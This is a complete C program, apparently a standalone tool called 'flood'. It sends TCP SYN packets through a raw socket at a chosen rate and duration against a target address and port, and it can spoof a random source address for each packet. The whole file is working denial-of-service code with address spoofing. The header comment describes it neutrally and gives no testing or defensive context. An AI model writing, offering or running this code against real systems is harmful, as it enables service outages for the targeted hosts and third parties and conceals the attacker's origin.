/* A bounded stream of TCP connection requests at an even rate.
 *
 *     flood SOURCE|random TARGET PORT RATE SECONDS
 *
 * RATE is in packets a second. Each packet is a SYN of 40 octets from a port and with a
 * sequence number of its own; `random` draws a source address for each. It ends by itself.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PAUSE_NS 1000000L /* as many packets as are due are sent once in a millisecond */

struct packet {
    struct iphdr ip;
    struct tcphdr tcp;
};

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static uint32_t drawn(void) /* xorshift */
{
    static uint32_t state;
    while (state == 0)
        state = (uint32_t)getpid() * 2654435761u ^ (uint32_t)time(NULL);
    state ^= state << 13;
    state ^= state >> 17;
    return state ^= state << 5;
}

static uint32_t foreign_address(void) /* none that stands for nothing, or for somebody here */
{
    for (;;) {
        uint32_t address = drawn();
        uint32_t first = address >> 24;
        if (first != 0 && first != 10 && first != 127 && first < 224)
            return htonl(address);
    }
}

static uint16_t checksum(const struct packet *packet) /* over TCP and its pseudo header */
{
    uint16_t words[10], ends[4];
    uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof packet->tcp);
    memcpy(words, &packet->tcp, sizeof words);
    memcpy(ends, &packet->ip.saddr, sizeof ends); /* daddr follows */
    for (int i = 0; i < 10; i++)
        sum += words[i];
    for (int i = 0; i < 4; i++)
        sum += ends[i];
    sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~(sum + (sum >> 16));
}

int main(int count, char **words)
{
    struct packet packet = {0};
    struct sockaddr_in target = {.sin_family = AF_INET};
    int random_source = count == 6 && strcmp(words[1], "random") == 0;

    if (count != 6 || inet_pton(AF_INET, words[2], &target.sin_addr) != 1 ||
        (!random_source && inet_pton(AF_INET, words[1], &packet.ip.saddr) != 1)) {
        fputs("usage: flood SOURCE|random TARGET PORT RATE SECONDS\n", stderr);
        return 2;
    }
    double rate = atof(words[4]), seconds = atof(words[5]);
    int handle = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (handle < 0) {
        perror("flood: no raw socket");
        return 1;
    }
    packet.ip.version = 4;
    packet.ip.ihl = 5;
    packet.ip.ttl = 64;
    packet.ip.protocol = IPPROTO_TCP;
    packet.ip.daddr = target.sin_addr.s_addr; /* the kernel fills in length, id and checksum */
    packet.tcp.dest = htons((uint16_t)atoi(words[3]));
    packet.tcp.doff = 5;
    packet.tcp.syn = 1;
    packet.tcp.window = htons(64240);

    const struct timespec pause = {.tv_nsec = PAUSE_NS};
    double began = now();
    long sent = 0;
    for (double passed = 0; passed < seconds; passed = now() - began) {
        for (long due = 1 + (long)(passed * rate); sent < due; sent++) {
            if (random_source)
                packet.ip.saddr = foreign_address();
            packet.tcp.source = htons((uint16_t)(1024 + drawn() % 64512));
            packet.tcp.seq = drawn();
            packet.tcp.check = 0;
            packet.tcp.check = checksum(&packet);
            if (sendto(handle, &packet, sizeof packet, 0, (struct sockaddr *)&target,
                       sizeof target) < 0 && errno != ENOBUFS) { /* a full queue drops it */
                perror("flood: cannot send");
                return 1;
            }
        }
        nanosleep(&pause, NULL);
    }
    return 0;
}
